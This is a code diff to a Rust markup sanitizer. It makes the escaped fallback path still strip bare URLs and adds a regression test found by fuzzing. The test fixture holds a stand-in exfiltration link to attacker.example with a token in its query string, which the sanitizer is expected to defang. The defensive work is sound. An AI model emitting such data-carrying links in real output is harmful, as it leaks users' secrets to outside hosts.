@@ -240,6 +240,8 @@ impl Flavor {
 }
 
 /// Runs `pass` until it reports no change; `pass` returns `None` when its input is clean.
+/// After [`MAX_PASSES`] changing passes the text is made `inert` (every markup character
+/// escaped) and given one more pass.
 fn settle<'a>(
     text: &'a str,
     findings: &mut Findings<'_>,
@@ -261,7 +263,14 @@ fn settle<'a>(
         Code::HtmlSanitized,
         format!("markup kept changing after {MAX_PASSES} sanitizing passes; every markup character was escaped"),
     );
-    Cow::Owned(inert(&current))
+    // Escaped text has no markup left, but what a host finds in plain text still counts:
+    // a bare URL (GFM autolinks it) gets the pass's treatment once more, so the result is
+    // as inert, and as stable under another pass, as a settled one.
+    let escaped = inert(&current);
+    match pass(&escaped, findings) {
+        Some(out) => Cow::Owned(out),
+        None => Cow::Owned(escaped),
+    }
 }
 
 /// Collects findings for one text value, without duplicates (a set keeps adding linear).
@@ -676,6 +685,38 @@ mod tests {
 
     fn codes(out: &MarkupOutcome<'_>) -> Vec<Code> {
         out.findings.iter().map(|f| f.code).collect()
+    }
+
+    /// A pass that never settles ends in the escaped fallback, and that fallback still
+    /// gets the bare-URL treatment: escaping leaves `http://…?token=…` autolinkable.
+    /// (Found by the markdown fuzz target, `fuzz/regressions/markdown/`.)
+    #[test]
+    fn the_escaped_fallback_still_removes_bare_urls_that_carry_data() {
+        let p = policy();
+        let calls = std::cell::Cell::new(0usize);
+        let text = "see http://attacker.example/c?token=c2VjcmV0LXRva2Vu now";
+        let mut findings = Findings::new("/t");
+        let out = settle(
+            text,
+            &mut findings,
+            |t, f| {
+                calls.set(calls.get() + 1);
+                if calls.get() <= MAX_PASSES {
+                    Some(format!("{t}<u>")) // keeps changing, like the fuzzer's input did
+                } else {
+                    super::super::markdown::sanitize(t, &p, f)
+                }
+            },
+            escape_markdown_all,
+        );
+        assert!(
+            out.contains("`http://attacker.example/c?token=c2VjcmV0LXRva2Vu` (link removed)"),
+            "{out}"
+        );
+        let again = sanitize_markup(&out, None, &p, "/t");
+        assert_eq!(again.text, out, "fallback output not stable");
+        let codes: Vec<Code> = findings.into_vec().iter().map(|f| f.code).collect();
+        assert!(codes.contains(&Code::LinkExfiltration), "{codes:?}");
     }
 
     #[test]
